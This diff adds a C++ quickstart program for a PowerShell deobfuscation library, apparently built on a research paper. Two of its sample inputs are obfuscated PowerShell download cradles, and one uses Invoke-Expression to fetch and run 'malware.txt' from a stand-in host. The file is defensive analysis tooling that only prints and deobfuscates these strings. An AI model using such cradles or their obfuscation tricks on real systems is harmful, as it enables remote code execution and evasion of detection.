@@ -1,0 +1,56 @@
+// Quickstart: deobfuscate a PowerShell one-liner with the public API.
+//
+//   $ ./quickstart ["<script>"]
+//
+// Without an argument it runs the paper's Listing 2/3/4 examples.
+
+#include <cstdio>
+#include <string>
+
+#include "core/deobfuscator.h"
+#include "obfuscator/obfuscator.h"
+
+namespace {
+
+void show(const ideobf::InvokeDeobfuscator& deobf, const std::string& title,
+          const std::string& script) {
+  ideobf::DeobfuscationReport report;
+  const std::string out = deobf.deobfuscate(script, report);
+  std::printf("--- %s ---\n", title.c_str());
+  std::printf("input:\n%s\n", script.c_str());
+  std::printf("output:\n%s\n", out.c_str());
+  std::printf(
+      "(ticks removed: %d, aliases expanded: %d, case normalized: %d,\n"
+      " pieces recovered: %d, variables traced: %d, layers unwrapped: %d)\n\n",
+      report.token.ticks_removed, report.token.aliases_expanded,
+      report.token.case_normalized, report.recovery.pieces_recovered,
+      report.recovery.variables_traced, report.multilayer.layers_unwrapped);
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  ideobf::InvokeDeobfuscator deobf;
+
+  if (argc > 1) {
+    show(deobf, "command line input", argv[1]);
+    return 0;
+  }
+
+  show(deobf, "Listing 2 (L1: ticking + random case)",
+       "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
+       "malware.txt')");
+
+  show(deobf, "Listing 3 (L2: string reordering + replace)",
+       "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}"
+       "{3}{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
+       "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes',"
+       "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))");
+
+  ideobf::Obfuscator obf(4);
+  show(deobf, "Listing 4 style (L3: special-character encoding + bxor)",
+       obf.apply(ideobf::Technique::SpecialCharEncoding,
+                 "Write-Host 'hello from listing 4'"));
+
+  return 0;
+}
